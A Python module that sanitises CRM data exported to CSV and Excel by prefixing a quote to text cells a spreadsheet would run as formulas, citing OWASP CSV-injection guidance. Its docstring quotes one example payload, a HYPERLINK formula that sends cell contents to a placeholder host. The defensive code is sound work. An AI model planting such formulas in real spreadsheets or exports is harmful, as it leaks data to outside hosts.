"""Text cells that a spreadsheet will not run as a formula, for every export of CRM rows (the CLI's CSV
and the dashboard's CSV and Excel files).

Any CRM user can title a deal `=HYPERLINK("http://x/?leak="&A1,"x")`. A spreadsheet runs a cell that starts
with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so (as the OWASP CSV-injection guidance
says) such a text cell gets a leading `'`. Numbers are not text and stay as they are.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutral(text: str) -> str:
    """A text cell a spreadsheet will not run as a formula (OWASP: prefix a single quote)."""
    return "'" + text if text.startswith(FORMULA_START) else text


def neutral_frame(df: pd.DataFrame) -> pd.DataFrame:
    """Every text cell of `df` made neutral; other cells as they are."""
    def one(value: Any) -> Any:
        return neutral(value) if isinstance(value, str) else value

    out = df.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(one)
    return out
